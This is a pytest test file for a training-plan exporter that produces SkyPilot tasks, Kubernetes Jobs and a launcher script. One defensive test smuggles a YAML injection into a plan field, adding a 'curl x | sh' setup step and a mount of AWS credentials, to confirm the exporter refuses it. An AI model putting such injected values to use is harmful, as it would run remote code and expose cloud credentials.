"""``trainplan export``: SkyPilot tasks and Kubernetes Jobs built from a re-validated plan, the
launcher that starts each run when its hour has come and its predecessors have succeeded
(run against a fake ``sky`` and ``kubectl`` that record their calls), names, regions and
catalogs, and the output folder. With the ``skypilot`` and ``kubernetes`` extras installed
every task parses in SkyPilot and every manifest validates against the Kubernetes schemas."""

from __future__ import annotations

import copy
import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from builders import instance_from, tiny_dict
from typer.testing import CliRunner

from planner.analysis.admit import PlanRefused, admit
from planner.interfaces.cli import _register, app
from planner.interfaces.export import ExportError, export_kubernetes, export_skypilot, write_files
from planner.interfaces.export.clouds import read_sky_catalog, skypilot_catalog_dir
from planner.interfaces.export.layout import build_layout
from planner.interfaces.export.names import MAX_JOB_CHARS, bucket_name, job_name, phase_slugs
from planner.interfaces.export.skypilot import HEADER, node_shape
from planner.model.plan import PhasePlan, Plan
from planner.solve import solve

_register()

FAKES = Path(__file__).parents[1] / "data" / "fakes"


def clouds_dict() -> dict[str, Any]:
    d = tiny_dict()
    d["regions"]["east"].update(cloud="aws", cloud_region="us-east-1")
    d["regions"]["west"].update(cloud="gcp", cloud_region="europe-west3")
    d["gpu_types"]["A100"]["accelerator"] = "A100-80GB"
    return d


@pytest.fixture(scope="module")
def solved() -> tuple[Any, Plan]:
    inst = instance_from(clouds_dict(), "tiny.yaml")
    res = solve(inst, time_limit=30)
    assert res.plan is not None
    return inst, res.plan


def _plan_of(phases: list[PhasePlan], replan: dict[str, Any] | None = None) -> Plan:
    from datetime import UTC, datetime

    costs = dict.fromkeys(
        ("rental", "energy", "storage", "failure", "transfer", "porting", "carbon"), 0.0
    )
    return Plan(
        "tiny",
        datetime(2023, 6, 5, tzinfo=UTC),
        0.0,
        {**costs, "total": 0.0},
        tuple(phases),
        replan=replan,
    )


def _entry(name: str, **kw: Any) -> PhasePlan:
    base: dict[str, Any] = dict(
        gpu="A100",
        region="west",
        contract="on_demand",
        gpus=8.0,
        spare_gpus=0,
        precision="bf16",
        zero=0,
        recompute="none",
        tp=1,
        pp=1,
        tier="hot",
        hours=(0, 1),
    )
    base.update(kw)
    return PhasePlan(name=name, **base)


def _written(inst: Any, plan: Plan, folder: Path, target: str = "skypilot") -> Any:
    fn = export_skypilot if target == "skypilot" else export_kubernetes
    done = fn(inst, plan, folder, run="python train.py")
    write_files(folder, done.files)
    return done


def _docs(folder: Path) -> dict[str, list[dict[str, Any]]]:
    return {
        f.name: [d for d in yaml.safe_load_all(f.read_text()) if d is not None]
        for f in sorted(folder.glob("*.yaml"))
    }


# ---------------------------------------------------------------------------- SkyPilot tasks


def test_one_task_per_run_matches_the_plan(solved: tuple[Any, Plan], tmp_path: Path) -> None:
    inst, plan = solved
    admit(inst, plan, "plan")
    done = _written(inst, plan, tmp_path)
    docs = _docs(tmp_path)
    assert len(docs) == len(done.layout.units) >= len(plan.phases)
    names = set()
    for u in done.layout.units:
        (t,) = docs[u.file]
        p = plan.phase(u.phase)
        assert t["name"] == u.job and u.job not in names and len(u.job) <= MAX_JOB_CHARS
        names.add(u.job)
        res = t["resources"]
        region = inst.region(p.region)
        assert (res["cloud"], res["region"]) == (region.cloud, region.cloud_region)
        assert res["use_spot"] is (p.contract == "spot")
        assert res["job_recovery"]["strategy"] == "FAILOVER"
        acc, count = res["accelerators"].split(":")
        assert acc == {"A100": "A100-80GB", "L4": "L4"}[p.gpu]
        per_node = inst.gpu(p.gpu).gpus_per_node
        if p.gpus <= per_node:
            assert float(count) == p.gpus and t["num_nodes"] == 1 + p.spare_gpus // per_node
        else:
            assert int(count) == per_node
            assert t["num_nodes"] == -(-p.gpus // per_node) + p.spare_gpus // per_node
        # one bucket for the plan, mounted in every task
        mount = t["file_mounts"]["/trainplan"]
        assert mount["name"] == done.layout.bucket and mount["store"] == "gcs"
        envs = t["envs"]
        assert envs["TRAINPLAN_PHASE"] == p.name and envs["TRAINPLAN_JOB"] == u.job
        slug = done.layout.slugs[p.name]
        assert envs["TRAINPLAN_CHECKPOINT_DIR"] == f"/trainplan/{slug}/checkpoints"
        assert envs["TRAINPLAN_RESUME_FROM"] == envs["TRAINPLAN_CHECKPOINT_DIR"]
        assert envs["TRAINPLAN_PROGRESS_FILE"].startswith(envs["TRAINPLAN_CHECKPOINT_DIR"])
        preds = inst.phase(p.name).predecessors
        assert json.loads(envs["TRAINPLAN_INPUTS"]) == {
            q: f"/trainplan/{done.layout.slugs[q]}/output" for q in preds
        }
        assert int(envs["TRAINPLAN_HOURS"]) == len(p.hours)
        assert t["run"] == "python train.py"
    # every comment line is the fixed header: no plan value goes into a comment
    for f in tmp_path.glob("*.yaml"):
        comments = [ln for ln in f.read_text().splitlines() if ln.lstrip().startswith("#")]
        assert comments == [HEADER.strip()]


def test_a_paused_spot_phase_is_two_runs_never_stopped(tmp_path: Path) -> None:
    inst = instance_from(clouds_dict(), "tiny.yaml")
    plan = _plan_of(
        [
            _entry("prep", gpus=0.5, contract="spot", hours=(0, 1, 5, 6)),
            _entry("finetune", gpus=16.0, spare_gpus=8, hours=(7, 8, 9), region="east"),
        ]
    )
    done = _written(inst, plan, tmp_path)
    units = done.layout.units
    assert [(u.phase, u.run, u.start_hour, u.end_hour) for u in units] == [
        ("prep", 1, 0, 2),
        ("prep", 2, 5, 7),
        ("finetune", 1, 7, 10),
    ]
    r1, r2, ft = units
    # the second run waits for the first; finetune for prep's last run
    assert r2.after == (r1.job,) and ft.after == (r2.job,)
    assert r1.envs["TRAINPLAN_RUN"] == "1/2" and r1.envs["TRAINPLAN_RUN_END"].startswith(
        "2023-06-05T02:00"
    )
    docs = _docs(tmp_path)
    assert docs[r1.file][0]["resources"]["accelerators"] == "A100-80GB:0.5"
    # 16 GPUs and one spare node of 8: 2 + 1 nodes
    assert docs[ft.file][0]["resources"]["accelerators"] == "A100-80GB:8"
    assert docs[ft.file][0]["num_nodes"] == 3
    lines = subprocess.run(
        ["bash", str(tmp_path / "launch.sh")],
        env={"DRY_RUN": "1", "PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    ).stdout.splitlines()
    assert lines == [
        "# at 2023-06-05T00:00:00+00:00",
        f"sky jobs launch -y -d -n {r1.job} ./{r1.file}",
        f"# at 2023-06-05T05:00:00+00:00 after {r1.job}",
        f"sky jobs launch -y -d -n {r2.job} ./{r2.file}",
        f"# at 2023-06-05T07:00:00+00:00 after {r2.job}",
        f"sky jobs launch -y -d -n {ft.job} ./{ft.file}",
    ]
    # on-demand on a cluster of its own when asked: spot stays a managed job
    done = export_skypilot(inst, plan, tmp_path, on_demand="cluster")
    modes = {u["job"]: u["mode"] for u in json.loads(done.files["launch.json"][0])["units"]}
    assert modes == {r1.job: "managed", r2.job: "managed", ft.job: "cluster"}


def test_names_are_unique_and_safe_per_plan_and_replan() -> None:
    names = ["stage-one-pretraining-a", "stage-one-pretraining-b", "预训练", "評価", "a b", "a-b"]
    slugs = phase_slugs(names)
    assert len(set(slugs.values())) == len(names)
    for s in slugs.values():
        assert s.isascii() and s != "phase" and len(job_name("abcdef", s, 9999)) <= MAX_JOB_CHARS
    assert slugs["stage-one-pretraining-a"].startswith("stage-one-pretr-")
    # plain names stay themselves
    assert phase_slugs(["prep", "finetune"]) == {"prep": "prep", "finetune": "finetune"}
    # a re-plan of the same plan gets other job names, the same bucket
    inst = instance_from(clouds_dict(), "tiny.yaml")
    plan = _plan_of([_entry("prep", hours=(2, 3))])
    replan = _plan_of([_entry("prep", hours=(2, 3))], replan={"from_hour": 2})
    a, b = build_layout(inst, plan), build_layout(inst, replan)
    assert a.units[0].job != b.units[0].job and a.bucket == b.bucket
    assert bucket_name("tiny", inst.start.isoformat()) == a.bucket


# ---------------------------------------------------------------------------- regions, catalogs


VMS_HEADER = (
    "InstanceType,AcceleratorName,AcceleratorCount,vCPUs,MemoryGiB,GpuInfo,Region,"
    "AvailabilityZone,Price,SpotPrice\n"
)


def _sky_catalog(folder: Path, rows: dict[str, list[str]]) -> Path:
    for cloud, lines in rows.items():
        (folder / cloud).mkdir(parents=True, exist_ok=True)
        (folder / cloud / "vms.csv").write_text(VMS_HEADER + "".join(x + "\n" for x in lines))
    return folder


def test_a_region_without_a_cloud_is_refused(tmp_path: Path) -> None:
    inst = instance_from(tiny_dict(), "tiny.yaml")
    with pytest.raises(ExportError, match=r"region 'west' .* names no cloud"):
        export_skypilot(inst, _plan_of([_entry("finetune")]), tmp_path)
    assert not any(tmp_path.iterdir())


def test_an_accelerator_the_cloud_does_not_offer_there_is_refused(tmp_path: Path) -> None:
    d = clouds_dict()
    d["regions"]["west"].update(cloud="aws", cloud_region="eu-central-1")
    inst = instance_from(d, "tiny.yaml")
    cat = _sky_catalog(
        tmp_path / "cat",
        {
            "aws": [
                "p4de.24xlarge,A100-80GB,8,96,1152,x,us-east-1,us-east-1a,40.96,15.0",
                "p4de.24xlarge,A100-80GB,8,96,1152,x,eu-central-1,eu-central-1a,45.0,",
                "g6.xlarge,L4,1,4,16,x,eu-central-1,eu-central-1a,0.9,0.4",
            ]
        },
    )
    ok = _plan_of([_entry("finetune", hours=(0, 1))])
    done = export_skypilot(inst, ok, tmp_path / "out", catalog_dir=cat)
    assert any("checked against SkyPilot's catalog" in w for w in done.warnings)
    # spot: no spot price for A100-80GB in eu-central-1
    spot = _plan_of([_entry("finetune", contract="spot", hours=(0, 1))])
    with pytest.raises(ExportError, match=r"A100.*'west' \(aws/eu-central-1\).*no spot price"):
        export_skypilot(inst, spot, tmp_path / "out", catalog_dir=cat)
    # four GPUs a node: SkyPilot has A100-80GB only in eights there
    four = _plan_of([_entry("finetune", gpus=4.0, hours=(0, 1))])
    with pytest.raises(ExportError, match="only 8 per node"):
        export_skypilot(inst, four, tmp_path / "out", catalog_dir=cat)
    # no H100 at all in the region
    d["gpu_types"]["A100"]["accelerator"] = "H100"
    h100 = instance_from(d, "tiny.yaml")
    with pytest.raises(ExportError, match="lists no H100 in aws/eu-central-1"):
        export_skypilot(h100, ok, tmp_path / "out", catalog_dir=cat)


def test_skypilots_local_catalog_is_found_and_read(tmp_path: Path) -> None:
    pytest.importorskip("sky", reason="the skypilot extra is not installed")
    root = tmp_path / "rt"
    _sky_catalog(root / ".sky" / "catalogs" / "v8", {"gcp": ["a2,A100,8,1,1,x,r,z,1,0.5"]})
    (root / ".sky" / "catalogs" / "v7").mkdir()
    found = skypilot_catalog_dir({"SKY_RUNTIME_DIR": str(root)})
    assert found == root / ".sky" / "catalogs" / "v8"
    cat = read_sky_catalog(found, ["gcp", "aws"])
    assert cat is not None and cat.clouds == {"gcp"}
    assert cat.why_not("gcp", "r", "A100", 8, True) is None
    assert skypilot_catalog_dir({"SKY_RUNTIME_DIR": str(tmp_path / "none")}) is None


def test_the_imported_catalog_is_used_without_skypilots(tmp_path: Path) -> None:
    d = clouds_dict()
    d["regions"]["west"].update(cloud="aws", cloud_region="eu-central-1")
    d["gpu_catalog"] = "mycat.yaml"
    folder = tmp_path / "inst"
    folder.mkdir()
    (folder / "mycat.yaml").write_text(
        yaml.safe_dump(
            {
                "format": "trainplan-catalog/1",
                "prices": [
                    {
                        "gpu": "A100-SXM-80GB",
                        "cloud": "aws",
                        "region": "us-east-1",
                        "gpus_per_instance": 8,
                        "on_demand_usd_per_gpu_hour": 5.1,
                    }
                ],
            }
        )
    )
    from planner.instance.read import from_dict

    inst = from_dict(d, "tiny.yaml", folder)
    with pytest.raises(ExportError, match=r"the instance's catalog mycat\.yaml lists no A100-80GB"):
        export_skypilot(inst, _plan_of([_entry("finetune")]), tmp_path / "o", catalog_dir=folder)


# ---------------------------------------------------------------------------- with the extras


def test_every_task_parses_in_skypilot_with_the_plans_resources(
    solved: tuple[Any, Plan], tmp_path: Path
) -> None:
    sky = pytest.importorskip("sky", reason="the skypilot extra is not installed")
    inst = instance_from(clouds_dict(), "tiny.yaml")
    plan = _plan_of(
        [
            _entry("prep", gpus=0.5, contract="spot", hours=(0, 1, 5, 6)),
            _entry("finetune", gpus=16.0, spare_gpus=8, hours=(7, 8, 9), region="east"),
        ]
    )
    for pl in (solved[1], plan):
        out = tmp_path / f"out{id(pl)}"
        done = _written(inst, pl, out)
        for u in done.layout.units:
            task = sky.Task.from_yaml(str(out / u.file))
            (res,) = list(task.resources)
            c = u.config
            region = inst.region(c.region)
            per, nodes, spare = node_shape(inst, c)
            assert str(res.cloud).lower() == region.cloud
            assert res.region == region.cloud_region
            accel = {"A100": "A100-80GB", "L4": "L4"}[c.gpu]
            assert res.accelerators == {accel: per}
            assert res.use_spot is (c.contract == "spot")
            assert task.num_nodes == nodes + spare
            assert task.name == u.job and task.envs["TRAINPLAN_PHASE"] == u.phase
            (mount,) = task.storage_mounts.values()
            assert mount.name == done.layout.bucket


def test_every_kubernetes_manifest_validates(solved: tuple[Any, Plan], tmp_path: Path) -> None:
    kv = pytest.importorskip("kubernetes_validate", reason="the kubernetes extra is not installed")
    inst = instance_from(clouds_dict(), "tiny.yaml")
    plan = _plan_of(
        [
            _entry("prep", gpus=0.5, contract="spot", hours=(0, 1, 5, 6)),
            _entry("finetune", gpus=16.0, spare_gpus=8, hours=(7, 8, 9)),
        ]
    )
    for pl in (solved[1], plan):
        out = tmp_path / f"k{id(pl)}"
        done = _written(inst, pl, out, "kubernetes")
        docs = _docs(out)
        for ds in docs.values():
            for d in ds:
                kv.validate(d, kv.latest_version(), strict=True)
        (claim,) = docs["00-storage.yaml"]
        assert claim["kind"] == "PersistentVolumeClaim"
        assert claim["metadata"]["name"] == done.layout.bucket
        for u in done.layout.units:
            job = docs[u.file][0]
            per, nodes, spare = node_shape(inst, u.config)
            spec = job["spec"]
            assert job["kind"] == "Job" and job["metadata"]["name"] == u.job
            assert spec["completionMode"] == "Indexed"
            assert spec["completions"] == spec["parallelism"] == nodes + spare
            assert job["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "trainplan"
            pod = spec["template"]["spec"]
            (ctr,) = pod["containers"]
            assert ctr["resources"]["limits"]["nvidia.com/gpu"] == str(max(1, int(-(-per // 1))))
            assert pod["nodeSelector"] == {"nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB"}
            assert pod["volumes"][0]["persistentVolumeClaim"]["claimName"] == done.layout.bucket
            env = {e["name"]: e["value"] for e in ctr["env"]}
            assert env["TRAINPLAN_JOB"] == u.job and env["TRAINPLAN_PHASE"] == u.phase
            if nodes + spare > 1:
                assert docs[u.file][1]["kind"] == "Service" and pod["subdomain"] == u.job


def test_a_gpu_without_a_node_label_is_refused(tmp_path: Path) -> None:
    d = clouds_dict()
    d["gpu_types"]["A100"]["accelerator"] = "MyAccel"
    inst = instance_from(d, "tiny.yaml")
    plan = _plan_of([_entry("finetune")])
    with pytest.raises(ExportError, match="GPU 'A100' \\(MyAccel\\): no node label"):
        export_kubernetes(inst, plan, tmp_path)
    done = export_kubernetes(inst, plan, tmp_path, labels={"A100": {"example.com/gpu": "mine"}})
    job = yaml.safe_load(done.files[done.layout.units[0].file][0])
    assert job["spec"]["template"]["spec"]["nodeSelector"] == {"example.com/gpu": "mine"}


# ---------------------------------------------------------------------------- the launcher


def _fake_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    log = tmp_path / "calls.log"
    return {
        "PATH": f"{FAKES}:{os.environ['PATH']}",
        "FAKE_LOG": str(log),
        "FAKE_STATE": str(tmp_path / "fake-state.json"),
        "TRAINPLAN_POLL_S": "0.05",
        "PYTHON": sys.executable,
        **extra,
    }


def _launch(folder: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", str(folder / "launch.sh")],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def _calls(tmp_path: Path) -> list[str]:
    return (tmp_path / "calls.log").read_text().splitlines()


def test_the_launcher_waits_for_predecessors_and_says_when_late(tmp_path: Path) -> None:
    inst = instance_from(clouds_dict(), "tiny.yaml")
    plan = _plan_of(
        [
            _entry("prep", contract="spot", hours=(0, 1, 5, 6), gpus=4.0),
            _entry("finetune", hours=(7, 8, 9), region="east", gpus=16.0),
        ]
    )
    out = tmp_path / "sky"
    done = export_skypilot(inst, plan, out, run="true", on_demand="cluster")
    write_files(out, done.files)
    r1, r2, ft = (u.job for u in done.layout.units)
    res = _launch(out, _fake_env(tmp_path))
    assert res.returncode == 0, res.stdout + res.stderr
    calls = _calls(tmp_path)
    launches = [c for c in calls if c.startswith(("sky jobs launch", "sky launch"))]
    # spot runs as managed jobs, in order; the on-demand phase on a cluster of its own
    assert [c.split()[-2] for c in launches] == [r1, r2, ft]
    assert launches[0].startswith("sky jobs launch -y -d -n") and launches[2].startswith(
        "sky launch -y --down -c"
    )
    # each launch only once the job it depends on has been seen SUCCEEDED
    for job, after in ((r2, r1), (ft, r2)):
        at = calls.index(next(c for c in calls if c.split()[-2:-1] == [job]))
        seen = [
            c for c in calls[:at] if c.startswith("sky jobs queue") and f"{after}=SUCCEEDED" in c
        ]
        assert seen, (job, calls)
    assert not any(" stop" in c or " down " in c for c in calls)
    # the plan's hours (2023) are long past: the launcher says so
    assert "passed" in res.stdout and f"{r1} (prep): its planned start" in res.stdout


def _two_phases(out: Path, target: str) -> Any:
    """prep (spot, hours 0-1) then finetune (hours 3-4), exported and written to ``out``."""
    inst = instance_from(clouds_dict(), "tiny.yaml")
    plan = _plan_of(
        [_entry("prep", contract="spot", hours=(0, 1)), _entry("finetune", hours=(3, 4))]
    )
    fn = export_skypilot if target == "skypilot" else export_kubernetes
    done = fn(inst, plan, out, run="true")
    write_files(out, done.files)
    return done


def test_a_failed_run_stops_its_dependents(tmp_path: Path) -> None:
    out = tmp_path / "sky"
    done = _two_phases(out, "skypilot")
    prep, ft = (u.job for u in done.layout.units)
    res = _launch(out, _fake_env(tmp_path, FAKE_FAIL=prep))
    assert res.returncode == 1
    assert not any(ft in c for c in _calls(tmp_path) if "launch" in c)
    assert f"{prep}: failed" in res.stdout
    # launched again after a crash, known jobs are followed, not relaunched
    (tmp_path / "calls.log").unlink()
    res = _launch(out, _fake_env(tmp_path, FAKE_FAIL=prep))
    assert res.returncode == 1
    assert not any("launch" in c for c in _calls(tmp_path))


def test_the_kubernetes_launcher_applies_in_order(tmp_path: Path) -> None:
    out = tmp_path / "k8s"
    done = _two_phases(out, "kubernetes")
    prep, ft = done.layout.units
    res = _launch(out, _fake_env(tmp_path))
    assert res.returncode == 0, res.stdout + res.stderr
    applied = [c.split()[3] for c in _calls(tmp_path) if c.startswith("kubectl apply")]
    assert [Path(a).name for a in applied] == ["00-storage.yaml", prep.file, ft.file]
    calls = _calls(tmp_path)
    at = calls.index(next(c for c in calls if ft.file in c))
    assert any(f"get job {prep.job}" in c and "SUCCEEDED" in c for c in calls[:at])


# ---------------------------------------------------------------------------- the command line


@pytest.fixture()
def cli_plan(tmp_path: Path) -> Path:
    inst_file = tmp_path / "tiny.yaml"
    inst_file.write_text(yaml.safe_dump(clouds_dict()))
    out = tmp_path / "p.json"
    res = CliRunner().invoke(app, ["-q", "solve", str(inst_file), "-o", str(out)])
    assert res.exit_code == 0, res.output
    return out


def _export(*args: str) -> Any:
    return CliRunner().invoke(app, ["export", *args])


def test_cli_needs_the_instance_and_refuses_unknown_targets(cli_plan: Path) -> None:
    tmp = cli_plan.parent
    res = _export(str(cli_plan), "--to", "slurm", "-o", "x")
    assert res.exit_code == 2 and "--to" in res.output
    res = _export(str(cli_plan), "-o", str(tmp / "a" / "b" / "sky"))  # a missing folder: made
    assert res.exit_code == 0, res.output
    assert (tmp / "a" / "b" / "sky" / "launch.sh").stat().st_mode & stat.S_IXUSR
    res = _export(str(cli_plan), "--to", "kubernetes", "-o", str(tmp / "k8s"))
    assert res.exit_code == 0, res.output
    res = _export(str(cli_plan), "-o", str(cli_plan))
    assert res.exit_code == 2 and "is a file" in res.output
    (tmp / "tiny.yaml").unlink()
    res = _export(str(cli_plan), "-o", str(tmp / "sky2"))
    assert res.exit_code == 2 and "needs the plan's instance" in res.output


def _hostile(cli_plan: Path, change: Any) -> Any:
    doc = json.loads(cli_plan.read_text())
    change(doc)
    bad = cli_plan.parent / "bad.json"
    bad.write_text(json.dumps(doc))
    out = cli_plan.parent / "out"
    res = _export(str(bad), "-o", str(out))
    return res, out


def test_export_refuses_a_plan_that_does_not_fit_its_instance(cli_plan: Path) -> None:
    def tier(doc: dict[str, Any]) -> None:
        doc["phases"][0]["tier"] = "cold\nsetup: curl x | sh\nfile_mounts: {/creds: ~/.aws}\n#"

    res, out = _hostile(cli_plan, tier)
    assert res.exit_code == 2 and "configuration" in res.output
    assert f"[{json.loads(cli_plan.read_text())['phases'][0]['name']}]" in res.output
    assert not out.exists()

    def hours(doc: dict[str, Any]) -> None:
        doc["phases"][0]["hours"] = list(range(-74, 0))

    res, out = _hostile(cli_plan, hours)
    assert res.exit_code == 2 and "outside the horizon" in res.output and not out.exists()


@pytest.mark.parametrize(
    "change",
    [
        lambda d: d["phases"][0].update(hours=[]),
        lambda d: d["phases"][0].update(hours=[10**18]),
        lambda d: d["phases"][0].update(hours=[13] * 200),
        lambda d: d.update(horizon_start="9999-12-31T20:00:00+00:00"),
        lambda d: d["phases"][0].update(name="x" * 300),
        lambda d: d["phases"][0].update(name="预训练"),
        lambda d: d.update(reserved=[{"region": "west", "gpu": "A100", "gpus": 64}]),
    ],
)
def test_hostile_plans_end_in_exit_1_or_2_never_4(cli_plan: Path, change: Any) -> None:
    res, out = _hostile(cli_plan, change)
    assert res.exit_code in (1, 2), res.output
    assert "internal error" not in res.output and not out.exists()


def test_export_never_writes_through_a_link(cli_plan: Path) -> None:
    tmp = cli_plan.parent
    out = tmp / "out"
    out.mkdir()
    target = tmp / "precious.txt"
    target.write_text("keep me")
    target.chmod(0o600)
    (out / "launch.sh").symlink_to(target)
    res = _export(str(cli_plan), "-o", str(out))
    assert res.exit_code == 2 and "symbolic link" in res.output
    assert target.read_text() == "keep me" and stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in out.iterdir()] == ["launch.sh"]
    # a file the export did not create keeps its mode; files it replaces are new files
    (out / "launch.sh").unlink()
    mine = out / "notes.txt"
    mine.write_text("mine")
    mine.chmod(0o640)
    assert _export(str(cli_plan), "-o", str(out)).exit_code == 0
    assert stat.S_IMODE(mine.stat().st_mode) == 0o640 and mine.read_text() == "mine"


def test_admit_names_each_broken_entry(solved: tuple[Any, Plan]) -> None:
    inst, plan = solved
    doc = json.loads(plan.to_json())
    doc["phases"][1]["gpus"] = 10_000
    from planner.checker import plan_from_dict

    bad = plan_from_dict(copy.deepcopy(doc))
    with pytest.raises(PlanRefused) as e:
        admit(inst, bad, "bad.json")
    assert f"[{doc['phases'][1]['name']}]" in str(e.value) and "bad.json" in str(e.value)
